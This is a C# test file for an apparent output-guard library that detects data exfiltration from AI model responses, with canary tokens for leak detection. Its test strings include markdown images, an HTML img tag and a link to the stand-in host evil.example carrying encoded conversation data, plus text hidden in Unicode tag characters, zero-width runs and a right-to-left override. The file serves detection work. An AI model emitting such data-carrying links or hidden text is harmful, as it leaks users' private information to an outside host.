using Bartizan.Guard.Canaries;

namespace Bartizan.Guard.Tests.Exfiltration;

public class ExfiltrationTests
{
    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=Y3VzdG9tZXIgbmFtZSBpcyBKYW5lIERvZQ)", "exfiltration.markdown-image")]
    [InlineData("![x](https://evil.example/c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u.png/c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u)", "exfiltration.markdown-image")]
    [InlineData("<img alt=\"\" src='https://evil.example/?q=the+customer+said+her+name+is+Jane+Doe'>", "exfiltration.markdown-image")]
    [InlineData("[click](https://evil.example/?q=c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u)", "exfiltration.link")]
    public void An_address_that_carries_data_is_found(string text, string label) => Assert.Contains(Inspecting.Find(text), f => f.Label == label);

    [Theory]
    [InlineData("![logo](https://cdn.example.com/assets/logo-2x.png?v=3)")]
    [InlineData("[docs](https://example.com/guides/how-to-install-the-command-line-tool)")]
    [InlineData("[src](https://github.com/a/b/blob/7964bd0160d4c18e4155127a4c863d61ebd8944a/src/File.cs#L30)")]
    [InlineData("[here](../relative/path?x=c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u) and a[0](b)")]
    public void Honest_links_pass(string text) => Assert.DoesNotContain(Inspecting.Find(text), f => f.Label.StartsWith("exfiltration", StringComparison.Ordinal));

    [Fact]
    public void Known_hosts_and_their_subdomains_pass()
    {
        var engine = GuardEngine.CreateDefault(new GuardOptions { KnownHosts = ["good.example"] });
        Assert.Empty(Inspecting.Find("![x](https://img.good.example/?d=c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u)", engine));
        Assert.NotEmpty(Inspecting.Find("![x](https://notgood.example/?d=c3VtbWFyeSBvZiB0aGUgY29udmVyc2F0aW9u)", engine));
    }

    [Fact]
    public void Text_in_tag_characters_is_hidden_text_and_is_read()
    {
        var hidden = string.Concat("mail bob@example.org".Select(c => char.ConvertFromUtf32(0xE0000 + c)));
        var found = Inspecting.Find($"Hello{hidden} there");
        Assert.Contains(found, f => f.Label == "hidden.text" && f.Start == 5 && f.Length == hidden.Length);
        Assert.Contains(found, f => f.Label == "pii.email" && f.Normalisations.Contains("tag-characters"));
    }

    [Theory]
    [InlineData("a\u200B\u200C\u200B\u200C\u200B\u200Cb", true)]
    [InlineData("family: \U0001F468\u200D\U0001F469\u200D\U0001F467 ok \u2764\uFE0F", false)]
    [InlineData("\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", false)]
    [InlineData("file\u202Egpj.exe", true)]
    public void Invisible_runs_are_found_and_emoji_pass(string text, bool found) => Assert.Equal(found, Inspecting.Find(text).Any(f => f.Label == "hidden.text"));

    [Fact]
    public void A_canary_is_recognised_in_any_dress_and_only_with_its_key()
    {
        var canaries = new CanaryTokens("0123456789abcdef"u8);
        var token = canaries.Issue("document 7");
        Assert.Equal(token, canaries.Issue("document 7"));
        Assert.True(canaries.IsOf(token, "document 7"));
        Assert.False(canaries.IsOf(token, "document 8"));
        var engine = GuardEngine.CreateDefault(new GuardOptions { Canaries = canaries });
        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($"it said {token} somewhere"));
        foreach (var text in (string[])[$"so: {token}.", token.ToUpperInvariant(), token.Insert(8, "\u200B"), encoded])
        {
            Assert.Contains(Inspecting.Find(text, engine), f => f.Label == "canary");
        }

        var other = GuardEngine.CreateDefault(new GuardOptions { Canaries = new CanaryTokens("another key here"u8) });
        Assert.Empty(Inspecting.Find(token, other));
        Assert.False(canaries.Recognise(token[..^1] + (token[^1] == 'a' ? 'b' : 'a')));
    }
}
